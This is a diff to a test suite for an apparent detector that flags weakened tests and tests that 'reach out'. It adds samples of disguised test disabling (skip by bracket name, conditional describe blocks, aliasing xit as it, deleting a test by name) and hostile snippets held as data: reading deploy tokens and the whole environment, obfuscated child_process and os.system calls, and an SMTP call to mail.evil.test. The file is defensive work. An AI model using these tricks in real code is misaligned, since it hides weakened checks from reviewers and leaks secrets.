@@ -178,15 +178,16 @@ const FILES = {
 } as const;
 type Language = keyof typeof FILES;
 
-const edit = (language: Language, from: string | RegExp, to: string) => {
+type Replacement = string | ((all: string) => string);
+const edit = (language: Language, from: string | RegExp, to: Replacement) => {
   const [path, text] = FILES[language];
-  const after = text.replace(from, to);
+  const after = text.replace(from, to as string);
   if (after === text) throw new Error(`${String(from)} is not in the ${language} sample`);
   return edited(path, text, after);
 };
 
 describe('a weakened test is never low', () => {
-  test.each<[string, Language, string | RegExp, string]>([
+  test.each<[string, Language, string | RegExp, Replacement]>([
     ['skip', 'js', "it('adds'", "it.skip('adds'"],
     ['xit', 'js', "it('adds'", "xit('adds'"],
     ['only on another', 'js', "it('adds negatives'", "it.only('adds negatives'"],
@@ -210,6 +211,18 @@ describe('a weakened test is never low', () => {
     ['a condition around it', 'js', '    expect(sum)', '    if (sum.value)\n      expect(sum)'],
     ['a try around it', 'js', /( {4}expect\(add[^\n]*\n)/, '    try {\n  $1    } catch {}\n'],
     ['dead code', 'js', 'expect(add(1, 2))', 'if (false) expect(add(1, 2))'],
+    ['a skip by name', 'js', "it('adds'", "it['skip']('adds'"],
+    ['a concurrent skip', 'js', "it('adds'", "it.concurrent.skip('adds'"],
+    [
+      'a group under a condition',
+      'js',
+      /describe\([\s\S]*/,
+      (all: string) => `if (process.env.FULL) {\n${all.replace(/^(?=.)/gm, '  ')}}\n`,
+    ],
+    ['an alias of it', 'js', 'import {', "import { xit as it } from './skipping';\nimport {"],
+    ['deleted by name', 'py', 'def test_adds_neg', 'del test_adds\n\n\ndef test_adds_neg'],
+    ['a test under a condition', 'py', /(def test_adds\(\):)\n( {4}[^\n]*)/, 'if SLOW:\n    $1\n    $2'],
+    ['a cfg of the file', 'rust', 'use shop', '#![cfg(windows)]\nuse shop'],
     ['short-circuited', 'js', 'expect(add(1, 2))', 'false && expect(add(1, 2))'],
     ['retries', 'js', "describe('add'", "jest.retryTimes(5);\ndescribe('add'"],
     ['skip mark', 'py', 'def test_adds():', '@pytest.mark.skip\ndef test_adds():'],
@@ -504,6 +517,11 @@ describe('a test that reaches out', () => {
     ['a child process', 'js', "require('child_process').execSync('id');"],
     ['spawn', 'js', "import { spawn } from 'node:child_process';"],
     ['a token of the environment', 'js', 'console.log(process.env.GITHUB_TOKEN);'],
+    ['a token by destructuring', 'js', 'const { DEPLOY_TOKEN } = process.env;'],
+    ['every variable', 'js', 'for (const name in process.env) log(name);'],
+    ['a module by pieces', 'js', "require('child' + '_process').exec(x);"],
+    ['a function by pieces', 'py', 'getattr(os, "sys" + "tem")("id")'],
+    ['a mail', 'py', 'smtplib.SMTP("mail.evil.test")'],
     ['the whole environment', 'js', 'console.log(JSON.stringify(process.env));'],
     ['code from text', 'js', 'new Function(body)();'],
     ['decoded code', 'js', "eval(atob('YQ=='));"],
